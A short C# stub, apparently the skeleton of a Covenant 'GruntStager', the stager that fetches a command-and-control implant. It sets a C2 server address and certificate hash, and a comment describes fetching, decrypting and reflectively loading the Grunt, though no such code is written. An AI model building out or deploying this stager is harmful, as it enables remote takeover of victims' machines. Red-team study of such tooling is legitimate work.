using System;
using System.Net;
using System.Reflection;

namespace GruntStager
{
    public class GruntStager
    {
        public GruntStager() { ExecuteStager(); }
        public static void Main(string[] args) { new GruntStager(); }
        public void ExecuteStager()
        {
            string CovenantURI = @"https://198.51.100.40:443";
            string CovenantCertHash = @"";
            // fetch the Grunt, decrypt it and load it
        }
    }
}
